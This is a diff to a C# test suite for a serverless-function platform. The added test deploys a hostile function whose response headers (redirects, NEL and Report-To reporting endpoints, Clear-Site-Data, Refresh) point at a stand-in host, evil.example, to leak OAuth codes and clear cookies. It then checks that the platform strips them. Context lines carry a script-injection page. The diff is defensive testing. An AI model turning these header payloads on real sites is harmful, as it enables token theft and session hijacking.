@@ -218,6 +218,26 @@ public sealed class FunctionsTests(FunctionsFixture fx) : IClassFixture<Function
         Assert.Equal("yes", response.Headers.GetValues("x-custom").Single());
         Assert.False(response.Headers.Contains("Set-Cookie")); // a function cannot set cookies on the portal's origin
 
+        // Headers act on the portal's whole origin: an allow-list keeps reporting policies (which would send later URLs of
+        // the portal and of other apps, OAuth codes included, to the tenant), cookie clearing and redirects out.
+        await DeployAsync("origin-headers", """
+            export default () => new Response('x', { status: 302, headers: {
+              location: 'https://evil.example/', nel: '{"report_to":"g","max_age":31536000}',
+              'report-to': '{"group":"g","max_age":31536000,"endpoints":[{"url":"https://evil.example/r"}]}',
+              'reporting-endpoints': 'g="https://evil.example/r"', 'clear-site-data': '"cookies"', refresh: '0;url=https://evil.example/',
+              'x-butterbase-invocation-id': 'forged', 'cache-control': 'no-store' } })
+            """);
+        var hostile = await InvokeAsync("origin-headers");
+        Assert.Equal(HttpStatusCode.Redirect, hostile.StatusCode);
+        foreach (var header in new[] { "Location", "NEL", "Report-To", "Reporting-Endpoints", "Clear-Site-Data", "Refresh" })
+            Assert.False(hostile.Headers.NonValidated.Contains(header) || hostile.Content.Headers.NonValidated.Contains(header), header);
+        Assert.NotEqual("forged", hostile.Headers.GetValues("X-Butterbase-Invocation-Id").Single());
+        Assert.Equal("no-store", hostile.Headers.CacheControl!.ToString());
+        await DeployAsync("not-modified", "export default () => new Response('body', { status: 304 })");
+        await JsonAssert.ErrorAsync(await InvokeAsync("not-modified"), HttpStatusCode.InternalServerError, "function_error");
+        await DeployAsync("nul-header", "export default () => new Response('x', { headers: { 'x-bad': 'a\\u0000b' } })");
+        await JsonAssert.ErrorAsync(await InvokeAsync("nul-header"), HttpStatusCode.InternalServerError, "function_error");
+
         await DeployAsync("page", "export default () => new Response('<script>steal()</script>', { headers: { 'content-type': 'text/html', 'content-security-policy': 'default-src *' } })");
         var page = await InvokeAsync("page");
         Assert.Equal("text/html", page.Content.Headers.ContentType!.MediaType);
